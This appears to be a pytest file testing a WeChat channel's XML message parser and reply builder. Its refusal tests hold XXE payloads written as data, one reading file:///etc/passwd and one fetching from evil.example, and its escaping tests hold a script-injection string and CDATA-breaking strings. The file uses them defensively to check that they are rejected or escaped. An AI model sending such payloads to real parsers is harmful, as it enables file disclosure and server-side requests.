"""Reading incoming XML safely and writing reply XML that wechatpy parses back unchanged."""

from __future__ import annotations

import pytest
from wechatpy import parse_message as wechatpy_parse
from wechatpy.replies import TextReply

from channels.wechat.messages import (
    MAX_BODY_BYTES,
    Article,
    MessageFormatError,
    NewsOut,
    TextOut,
    cdata,
    outgoing_from_json,
    outgoing_to_json,
    parse_fields,
    parse_message,
    reply_xml,
)

TEXT_XML = (
    "<xml><ToUserName><![CDATA[gh_daofu]]></ToUserName><FromUserName><![CDATA[oUser1]]></FromUserName>"
    "<CreateTime>1700000000</CreateTime><MsgType><![CDATA[text]]></MsgType>"
    "<Content><![CDATA[你好]]></Content><MsgId>1234567890123456</MsgId></xml>"
)


def test_a_wechatpy_rendered_text_message_is_read():
    # wechatpy's reply renderer writes the same XML shape WeChat sends us.
    xml = TextReply(source="oUser1", target="gh_daofu", content="身份证 <到期> & 换领").render()
    fields = parse_fields(xml.encode())
    fields["MsgId"] = "42"
    message = parse_message(fields)
    assert message.content == "身份证 <到期> & 换领"
    assert message.msg_type == "text"


def test_a_text_message_is_parsed():
    message = parse_message(parse_fields(TEXT_XML.encode()))
    assert (message.to_user, message.from_user, message.msg_type) == ("gh_daofu", "oUser1", "text")
    assert message.content == "你好" and message.msg_id == "1234567890123456"
    assert message.dedupe_key == "msg:gh_daofu:oUser1:1234567890123456"


def test_the_same_msg_id_from_another_user_or_account_is_another_message():
    first = parse_message(parse_fields(TEXT_XML.encode()))
    other_user = parse_message(parse_fields(TEXT_XML.replace("oUser1", "oUser2").encode()))
    other_account = parse_message(parse_fields(TEXT_XML.replace("gh_daofu", "gh_other").encode()))
    assert len({first.dedupe_key, other_user.dedupe_key, other_account.dedupe_key}) == 3


def test_a_voice_message_with_recognition_carries_its_words():
    xml = (
        "<xml><ToUserName>gh</ToUserName><FromUserName>oUser1</FromUserName><CreateTime>1700000000</CreateTime>"
        "<MsgType>voice</MsgType><MediaId>m1</MediaId><Format>amr</Format><MsgId>77</MsgId>"
        "<Recognition>身份证快到期了</Recognition></xml>"
    )
    message = parse_message(parse_fields(xml.encode()))
    assert message.msg_type == "voice" and message.recognition == "身份证快到期了"


def test_events_are_identified_by_sender_and_time():
    xml = (
        "<xml><ToUserName>gh</ToUserName><FromUserName>oUser1</FromUserName><CreateTime>1700000000</CreateTime>"
        "<MsgType>event</MsgType><Event>CLICK</Event><EventKey>DAOFU_START</EventKey></xml>"
    )
    message = parse_message(parse_fields(xml.encode()))
    assert message.is_event and message.event == "CLICK" and message.event_key == "DAOFU_START"
    assert message.dedupe_key == "event:gh:oUser1:1700000000:CLICK:DAOFU_START"


@pytest.mark.parametrize(
    "body, reason",
    [
        (b"", "empty"),
        (b"   ", "empty"),
        (b"<xml><ToUserName>gh</ToUserName>", "well-formed"),
        (b"not xml", "well-formed"),
        (b"<root><A>1</A></root>", "<xml>"),
        (b'<!DOCTYPE xml [<!ENTITY a "aaaa">]><xml><Content>&a;</Content></xml>', "DOCTYPE"),
        (b'<?xml version="1.0"?><!doctype xml SYSTEM "file:///etc/passwd"><xml/>', "DOCTYPE"),
        ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><xml/>'.encode("utf-16"), "UTF-8"),
        (b'<?xml version="1.0" encoding="ISO-8859-1"?><xml><A>\xe9</A></xml>', "UTF-8"),
        (b'<?xml version="1.0" encoding="UTF-7"?><xml><A>1</A></xml>', "UTF-8"),
        (b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><xml/>', "DOCTYPE"),
        (("<xml>" + "<A>1</A>" * 100 + "</xml>").encode(), "more than"),
        (b"<xml><ToUserName>\xff\xfe</ToUserName></xml>", "UTF-8"),
        ('<?xml version="1.0" encoding="utf-16-le"?><!DOCTYPE x [<!ENTITY a "b">]><xml/>'.encode("utf-16-le"), "UTF-8"),
        ('<?xml version="1.0" encoding="utf-16-be"?><xml/>'.encode("utf-16-be"), "UTF-8"),
        (b"<xml><Content>a\x00b</Content></xml>", "cannot carry"),
        (b"<xml><Content>" + b"a" * MAX_BODY_BYTES + b"</Content></xml>", "larger"),
    ],
)
def test_malformed_or_dangerous_bodies_are_refused(body, reason):
    with pytest.raises(MessageFormatError, match=reason):
        parse_fields(body)


@pytest.mark.parametrize(
    "fields, reason",
    [
        ({"FromUserName": "o", "CreateTime": "1", "MsgType": "text", "Content": "x", "MsgId": "1"}, "ToUserName"),
        ({"ToUserName": "g", "FromUserName": "o", "CreateTime": "1", "Content": "x", "MsgId": "1"}, "MsgType"),
        ({"ToUserName": "g", "FromUserName": "o", "CreateTime": "x", "MsgType": "text", "MsgId": "1"}, "CreateTime"),
        ({"ToUserName": "g", "FromUserName": "o", "CreateTime": "1", "MsgType": "text", "Content": "x"}, "MsgId"),
        ({"ToUserName": "g", "FromUserName": "o", "CreateTime": "1", "MsgType": "text", "MsgId": "1"}, "Content"),
        ({"ToUserName": "g", "FromUserName": "o", "CreateTime": "1", "MsgType": "event"}, "Event"),
    ],
)
def test_messages_missing_fields_are_refused(fields, reason):
    with pytest.raises(MessageFormatError, match=reason):
        parse_message(fields)


TRICKY = [
    "材料]]>清单",
    "]]>",
    "a]]>b]]>c",
    "<script>alert('x')</script> & &amp; > <",
    "]]]]>>",
    "<![CDATA[inner]]>",
    "第一行\n第二行\t制表",
]


@pytest.mark.parametrize("content", TRICKY)
def test_text_replies_round_trip_through_wechatpy(content):
    reply = wechatpy_parse(reply_xml(TextOut(content), "oUser1", "gh_daofu", 1700000000))
    assert reply.type == "text"
    assert reply.content == content
    assert reply.source == "gh_daofu" and reply.target == "oUser1"


def test_characters_xml_cannot_carry_are_dropped():
    reply = wechatpy_parse(reply_xml(TextOut("a\x00b\x08c\x1fd"), "o", "g", 1))
    assert reply.content == "abcd"


def test_cdata_splits_the_terminator():
    assert cdata("a]]>b") == "<![CDATA[a]]]]><![CDATA[>b]]>"


@pytest.mark.parametrize("content", TRICKY)
def test_news_replies_round_trip_through_wechatpy(content):
    article = Article(title=f"前往办理：{content}", description=content, url="https://x.example/forms?a=1&b=2")
    reply = wechatpy_parse(reply_xml(NewsOut((article,)), "oUser1", "gh_daofu", 1700000000))
    data = reply._data  # wechatpy has no class for news replies; its parsed dict is what WeChat would read
    assert data["MsgType"] == "news" and data["ArticleCount"] == "1"
    item = data["Articles"]["item"]
    assert item["Title"] == f"前往办理：{content}"
    assert item["Description"] == content
    assert item["Url"] == "https://x.example/forms?a=1&b=2"


@pytest.mark.parametrize(
    "outgoing",
    [None, TextOut("你好]]>"), NewsOut((Article("标题", "描述", "https://x.example/f", "https://x.example/p.png"),))],
)
def test_answers_survive_json_for_the_shared_store(outgoing):
    assert outgoing_from_json(outgoing_to_json(outgoing)) == outgoing
